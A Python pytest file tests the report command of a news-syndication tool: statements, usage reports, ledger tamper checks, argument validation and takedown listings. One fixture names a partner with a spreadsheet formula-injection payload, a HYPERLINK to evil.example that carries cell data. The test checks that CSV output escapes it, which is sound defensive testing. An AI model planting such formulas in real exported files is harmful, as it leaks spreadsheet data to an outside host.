"""`report` as staff use it: three formats, files, checks, refusals, and a partner called a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from syndicate.model.changes import Action, ChangeEntry, Progress
from syndicate.model.events import PartnerAdded
from syndicate.model.item import ItemId
from syndicate.model.parties import PartnerId
from syndicate.model.records import Entry
from syndicate.model.rights import Clause
from syndicate.store.protocol import Change, SequenceUpdate
from tests.support.databases import opened, sqlite_at
from tests.support.shell import Shell, demo, no_settings, prepared
from tests.test_store.raw import by_hand

__all__ = ["demo", "no_settings", "prepared"]

NAME = '=HYPERLINK("https://evil.example/?"&A1,"点我")'
LICENCE = """
number = "XSW-EVIL"
partner = "evil"
valid_from = 2015-01-01
valid_until = 2900-01-01

[[grant]]
uses = ["reprint"]
outlets = ["daily"]
media = ["text"]
archive = "P9999D"
"""


def database(shell: Shell) -> str:
    return sqlite_at(shell.data / "syndicate.db")


@pytest.fixture
def given(demo: Shell, tmp_path: Path) -> Shell:
    """A house whose one article two partners were given, one of them with a formula for a name."""
    demo.good("partner", "add", "evil", "--name", NAME)
    licence = tmp_path / "licence.toml"
    licence.write_text(LICENCE, encoding="utf-8")
    demo.good("licence", "add", str(licence))
    for partner in ("demo", "evil"):
        demo.good(
            "item", "export", article(demo), "--as", "ninjs", "--partner", partner, "--use", "reprint"
        )
    return demo


def article(shell: Shell) -> str:
    (item,) = shell.good("--json", "item", "list").lines
    return str(item["id"])


def month(shell: Shell) -> str:
    """The month in which the article was given, in Xiaoshan."""
    at = datetime.fromisoformat(shell.good("--json", "trail", "list").lines[0]["at"])
    return f"{at.astimezone(UTC) + timedelta(hours=8):%Y-%m}"


def table(text: str) -> list[dict[str, str]]:
    header, *rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_a_statement_as_json_has_rows_totals_and_lines(given: Shell) -> None:
    words = ("report", "statement", "--month", month(given), "--lines", "--check")
    made: Any = given.good(*words, "--format", "json").json
    assert given.good("--json", *words).json == made
    last = made["line"]
    assert [(row["partner"], row["lines"]) for row in made["rows"]] == [
        ("demo", [last - 1]),
        ("evil", [last]),
    ]
    assert made["rows"][0] == {
        "owner": "萧山日报社",
        "medium": "text",
        "partner": "demo",
        "delivered": 1,
        "recalled": 0,
        "reinstated": 0,
        "net": 1,
        "lines": [last - 1],
    }
    counted = {"delivered": 2, "recalled": 0, "reinstated": 0, "net": 2}
    assert made["owners"] == [{"owner": "萧山日报社", **counted}]
    assert made["total"] == counted
    assert (made["report"], made["month"]) == ("statement", month(given))
    assert (made["whole"], made["differences"], made["provisional"]) == (True, [], True)


def test_a_partner_called_a_formula_is_a_text_in_the_csv(given: Shell, tmp_path: Path) -> None:
    words = ("report", "statement", "--month", month(given), "--format", "csv")
    said = given.good(*words)
    rows = table(said.out)
    assert said.out.startswith("\ufeff")
    assert [(row["行"], row["权利人"], row["名称"], row["净数"]) for row in rows[1:]] == [
        ("明细", "萧山日报社", f"'{NAME}", "1"),
        ("小计", "萧山日报社", "", "2"),
        ("合计", "", "", "2"),
    ]
    assert {row["状态"] for row in rows} == {"未完，暂计"}
    assert "暂计" in said.err
    out = tmp_path / "statement.csv"
    filed = given.good(*words, "--out", str(out))
    assert out.read_bytes() == said.out.encode()
    assert (filed.out, str(out) in filed.err) == ("", True)


def test_a_usage_report_is_a_table_for_people_also_in_a_file(given: Shell, tmp_path: Path) -> None:
    words = ("--lang", "en", "report", "usage", "--from", "2020-01-01", "--to", "2900-01-01")
    said = given.good(*words, "--partner", "evil", "--outlet", "daily").out
    header, row, subtotal, total = said.splitlines()
    assert header.split() == [
        "owner",
        "outlet",
        "medium",
        "partner",
        "name",
        "clause",
        "delivered",
        "recalled",
        "net",
    ]
    assert row.split()[-4:] == ["XSW-EVIL#1", "1", "0", "1"]
    assert (subtotal.split()[0], total.split()) == ("total", ["total", "1", "0", "1"])
    assert "demo" not in said
    out = tmp_path / "usage.txt"
    given.good(*words, "--partner", "evil", "--outlet", "daily", "--out", str(out))
    assert out.read_text(encoding="utf-8") == said
    assert "nothing was given" in given.good(*words, "--outlet", "tv").out


def test_what_differs_from_the_trail_is_named_and_exits_1(given: Shell) -> None:
    edit = "UPDATE deliveries SET mandate = 'HEAD-0' WHERE partner = 'evil'"
    asyncio.run(by_hand(database(given), "DROP TRIGGER deliveries_no_update", edit))
    words = ("report", "statement", "--month", month(given), "--check")
    found = given(*words)
    assert found.code == 1
    assert "ledger_differs" in found.err
    assert "HEAD-0" in found.err
    made: Any = given("--json", *words)
    assert made.code == 1
    assert made.json["whole"] is False
    first = made.json["differences"][0]
    assert (first["code"], first["line"]) == ("ledger_differs", made.json["line"])
    assert given(*words[:-1]).code == 0


@pytest.mark.parametrize(
    ("words", "named"),
    [
        (("usage", "--from", "2026-11-02", "--to", "2026-11-01"), "span_empty"),
        (("usage", "--from", "2026-11-1", "--to", "2026-12-01"), "--from"),
        (("usage", "--from", "20261101", "--to", "2026-12-01"), "--from"),
        (("usage", "--from", "2026-11-01", "--to", "2026-11-31"), "--to"),
        (("usage", "--from", "0001-01-01", "--to", "2026-11-01"), "span_too_early"),
        (("usage", "--to", "2026-11-01"), "--from"),
        (("statement", "--month", "2026-13"), "--month"),
        (("statement", "--month", "2026-11-01"), "--month"),
        (("statement", "--month", "９９９９-12"), "--month"),
        (("statement", "--month", "9999-12"), "month_not_begun"),
        (("statement", "--month", "2026-01", "--format", "xlsx"), "--format"),
        (("statement", "--month", "2026-01", "--format", "csv", "--json"), "--format csv"),
    ],
)
def test_what_is_no_span_or_format_is_wrong_usage(demo: Shell, words: tuple[str, ...], named: str) -> None:
    outcome = demo("report", *words)
    assert outcome.code == 2
    assert named in outcome.err


@pytest.mark.parametrize(
    "words",
    [("usage", "--partner", "nobody"), ("usage", "--outlet", "moon"), ("takedowns", "--partner", "nobody")],
)
def test_a_partner_or_outlet_there_is_not_is_refused(demo: Shell, words: tuple[str, ...]) -> None:
    span = ("--from", "2026-01-01", "--to", "2026-02-01") if words[0] == "usage" else ()
    outcome = demo("--json", "report", *words, *span)
    assert (outcome.code, outcome.json["error"]) == (1, "not_found")


async def tell(shell: Shell, *told: ChangeEntry) -> None:
    async with opened(database(shell)) as store, store.writing() as tx:
        last = max(one.seq for one in told)
        now = datetime.now(UTC)
        assert await tx.append_entries(SequenceUpdate(0, Progress(PartnerId("demo"), last=last), told))
        await tx.append(Entry(now, "system", PartnerAdded("demo")))
        await tx.changed(Change.ITEM)


def test_open_takedowns_are_listed_and_overdue_ones_exit_1(demo: Shell) -> None:
    assert demo.good("report", "takedowns").out.strip() == "没有待确认的撤稿"
    now = datetime.now(UTC)
    late = ChangeEntry(
        partner=PartnerId("demo"),
        seq=1,
        at=now - timedelta(hours=5),
        action=Action.RECALL,
        item=ItemId("20260301-aaaaaaaaaa"),
        version=2,
        clause=Clause("XSW-1#1"),
        reason="editorial",
        deadline=now - timedelta(hours=1),
    )
    due = replace(late, seq=2, action=Action.WITHDRAW, deadline=now + timedelta(days=1))
    gone = replace(late, seq=3)
    asyncio.run(tell(demo, late, due, gone))

    async def acknowledge() -> None:
        async with opened(database(demo)) as store, store.writing() as tx:
            assert await tx.acknowledge(PartnerId("demo"), [3], now) == [3]
            await tx.append(Entry(now, "demo", PartnerAdded("demo")))
            await tx.changed(Change.ITEM)

    asyncio.run(acknowledge())
    all_ = demo("--json", "report", "takedowns", "--partner", "demo")
    assert all_.code == 1
    assert [(one["change"], one["action"], one["overdue"]) for one in all_.lines] == [
        (1, "recall", True),
        (2, "withdraw", False),
    ]
    assert all_.lines[0] == {
        "partner": "demo",
        "item": late.item,
        "version": 2,
        "action": "recall",
        "reason": "editorial",
        "clause": "XSW-1#1",
        "change": 1,
        "told": late.at.isoformat(),
        "deadline": (now - timedelta(hours=1)).isoformat(),
        "acknowledged": None,
        "overdue": True,
    }
    overdue = demo("--lang", "en", "report", "takedowns", "--overdue")
    assert overdue.code == 1
    assert [row.split()[3] for row in overdue.out.splitlines()] == ["change", "1"]


def test_takedowns_that_are_not_yet_due_exit_0(demo: Shell) -> None:
    now = datetime.now(UTC)
    one = ChangeEntry(
        partner=PartnerId("demo"),
        seq=1,
        at=now,
        action=Action.WITHDRAW,
        item=ItemId("20260301-aaaaaaaaaa"),
        version=1,
        clause=None,
        deadline=now + timedelta(days=1),
    )
    asyncio.run(tell(demo, one))
    assert len(demo.good("--json", "report", "takedowns").lines) == 1
    assert demo.good("--json", "report", "takedowns", "--overdue").out == ""
